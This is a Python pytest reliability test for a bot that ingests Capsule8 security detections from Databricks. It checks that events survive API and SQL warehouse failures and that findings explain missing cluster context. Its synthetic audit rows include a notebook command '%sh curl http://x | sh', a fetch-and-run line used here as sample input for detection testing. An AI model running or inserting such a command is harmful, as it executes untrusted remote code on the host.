"""The Databricks REST API (clusters list/get answering 500) and the SQL warehouse (statements
failing, through the Thrift SQL emulator and the real databricks-sql-connector) failing while
events keep arriving: no event is lost, the watermark never passes an event that was not
stored, findings post with the reason their context is missing, and a later sync catches up."""
from __future__ import annotations

import random
import re
import time
from datetime import datetime, timedelta

import pytest

from bot.cli.audit_rows import node_timeline_row
from emulators.thrift_sql import T, ThriftSQLEmulator
from tests.reliability.harness import (
    DBX_TOKEN,
    BotProcess,
    add_clusters,
    assert_exactly_once,
    capsule8,
    check_delivery,
    now,
    notebook_command,
    record,
)

DETECTIONS = ["Kernel Module Loaded", "Boot Files Modified", "Suspicious Interactive Shell", "Kernel Exploit"]
ROUNDS = 6
PER_ROUND = 60


class FlakyWarehouse(ThriftSQLEmulator):
    """fail_next() fails the next statements whatever they are (a sync's first one is the audit
    read); `failing` fails every statement whose text matches it (the enrichment lookups)."""

    failing: str | None = None
    enrichment_failures = 0

    def ExecuteStatement(self, req: T.TExecuteStatementReq) -> T.TExecuteStatementResp:
        if self.failing and re.search(self.failing, req.statement):
            self.enrichment_failures += 1
            status = T.TStatus(statusCode=T.TStatusCode.ERROR_STATUS, errorMessage="[WAREHOUSE_STOPPED] stopped",
                               displayMessage="[WAREHOUSE_STOPPED] stopped")
            return T.TExecuteStatementResp(status=status)
        return super().ExecuteStatement(req)


@pytest.fixture
def warehouse(tmp_path):
    with FlakyWarehouse(tmp_path / "audit.duckdb", token=DBX_TOKEN) as emulator:
        yield emulator


def syncs_done(bot: BotProcess) -> int:
    return len(re.findall(r"sync done: ", bot.log_text()))


def sync_and_wait(bot: BotProcess, timeout: float = 60) -> str:
    """One webhook, then wait for that sync to finish and the outbox to empty; its report line."""
    before = syncs_done(bot)
    assert bot.webhook() == 202
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if syncs_done(bot) > before and bot.outbox_pending() == 0:
            return re.findall(r"sync done: (.*)", bot.log_text())[-1]
        time.sleep(0.05)
    raise AssertionError(f"the sync did not finish in {timeout}s\n{bot.log_tail()}")


def unstored_at_or_before_watermark(bot: BotProcess, times: dict[str, datetime]) -> int:
    """Source events at or before the watermark that the store does not have: must be 0."""
    watermark = bot.watermark()
    if watermark is None:
        return 0
    stored = {r[0] for r in bot.query("SELECT event_id FROM events")}
    return sum(1 for event_id, at in times.items() if at <= watermark and event_id not in stored)


def test_databricks_api_and_warehouse_failures_lose_nothing(host, make_bot, warehouse):
    rng = random.Random(11)
    clusters = add_clusters(host, 4)
    # the system tables know two of the clusters' drivers: the fallback when the API is down
    known = list(clusters.items())[:2]
    warehouse.source.insert_node_timeline([
        node_timeline_row(cid, ids[0], now() - timedelta(hours=8), None, workspace_id="1", account_id="acc")
        for cid, ids in known
    ])
    hosts = [i for ids in clusters.values() for i in ids]
    host.call(host.dbx.fail, "/api/2.1/clusters", status=500, times=None)  # the API is down throughout
    bot = make_bot(ESM_AUDIT_SOURCE="databricks", ESM_WAREHOUSE_URI=warehouse.uri,
                   ESM_WAREHOUSE_HTTP_PATH=warehouse.http_path, ESM_WAREHOUSE_TIMEOUT="10")
    bot.start()
    start = now() - timedelta(hours=3)
    counter, failed_syncs, failed_statements, violations = 0, 0, 0, 0
    times: dict[str, datetime] = {}  # every Capsule8 event in the warehouse -> its time
    for round_ in range(ROUNDS):
        rows = []
        for _ in range(PER_ROUND):
            counter += 1
            at = start + timedelta(minutes=30 * round_ + rng.uniform(0, 30))
            rows.append(capsule8(f"wh-{counter:04d}", rng.choice(DETECTIONS), rng.choice(hosts), at))
            times[f"wh-{counter:04d}"] = at
        cid = rng.choice(list(clusters))
        rows.append(notebook_command(f"nb-{round_}", cid, start + timedelta(minutes=30 * round_), "dana@example.com",
                                     "%sh curl http://x | sh"))
        warehouse.load(rows)
        failures = [1, 0, 3, 0, 2, 0][round_]  # the first statement of a sync is the audit read
        warehouse.fail_next(failures, "[WAREHOUSE_STOPPED] The SQL warehouse is stopped.")
        warehouse.failing = {1: "runCommand", 3: "node_timeline"}.get(round_)  # enrichment lookups
        report = sync_and_wait(bot)
        warehouse.clear_faults()  # a failed sync stops at its first failure: drop the unused ones
        failed_syncs += "error='" in report or 'error="' in report
        failed_statements += failures
        violations += unstored_at_or_before_watermark(bot, times)
        assert violations == 0, f"round {round_}: the watermark passed an event that was not stored"
    warehouse.clear_faults()
    warehouse.failing = None
    sync_and_wait(bot)
    drained = bot.wait_drained(len(times), timeout=60)

    stored = {r[0] for r in bot.query("SELECT event_id FROM events")}
    lost = set(times) - stored
    delivery = check_delivery(host, bot)
    # what a finding says about its cluster is in its details reply, the first in its thread
    texts = [" ".join(str(b) for b in m.get("blocks") or []) for m in host.all_messages()
             if str(((m.get("metadata") or {}).get("event_payload") or {}).get("key", "")).endswith(":details")]
    unknown = sum("Cluster: unknown" in t for t in texts)
    explained = sum("cluster list failed" in t for t in texts)
    commands_failed = sum("notebook command lookup failed" in t for t in texts)
    from_tables = bot.scalar("SELECT count(*) FROM findings WHERE context LIKE '%system tables%'") or 0
    watermark = bot.watermark()
    record(
        "databricks_outage",
        f"databricks outage: clusters API 500 throughout, warehouse failing {failed_statements} audit reads "
        f"({failed_syncs} of {ROUNDS + 1} syncs failed) and {warehouse.enrichment_failures} enrichment lookups; {len(times)} events, {len(stored)} stored, "
        f"{len(lost)} lost, watermark never past an unstored event ({violations} violations); "
        f"{delivery.parents} findings posted once each, {unknown} with 'Cluster: unknown' and the reason, "
        f"{from_tables} resolved from system tables, {commands_failed} saying the notebook command lookup failed; caught up in {drained:.1f} s",
        failed_statements=failed_statements, failed_syncs=failed_syncs, events=len(times),
        stored=len(stored), lost=len(lost), watermark_violations=violations, findings=delivery.parents,
        unknown_cluster=unknown, enrichment_failures=warehouse.enrichment_failures, explained=explained, commands_failed=commands_failed, from_system_tables=from_tables,
    )
    assert lost == set()
    assert_exactly_once(delivery, bot, host)
    assert failed_syncs >= 1, "no sync actually failed: the fault injection did not bite"
    assert unknown >= 1 and explained >= 1, "a finding without its cluster says why"
    assert commands_failed >= 1, "a finding whose commands could not be read says so"
    newest = max(times.values())  # the watermark reaches the newest event, or the bot's clock less the skew
    assert watermark is not None and newest - timedelta(minutes=3) <= watermark <= newest
    assert bot.healthy()
